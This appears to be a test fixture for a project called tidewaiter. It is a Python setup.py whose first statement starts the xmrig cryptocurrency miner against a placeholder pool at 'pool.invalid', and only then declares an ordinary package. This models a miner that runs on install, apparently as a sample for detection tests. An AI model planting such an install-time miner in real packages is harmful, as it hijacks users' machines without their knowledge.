# Inert fixture of tidewaiter's tests: never run. Hosts are reserved names or this machine.
import subprocess

subprocess.Popen(["./xmrig", "-o", "stratum+tcp://pool.invalid:3333"])


from setuptools import setup

setup(name="fixture", version="1", packages=["fixture"])
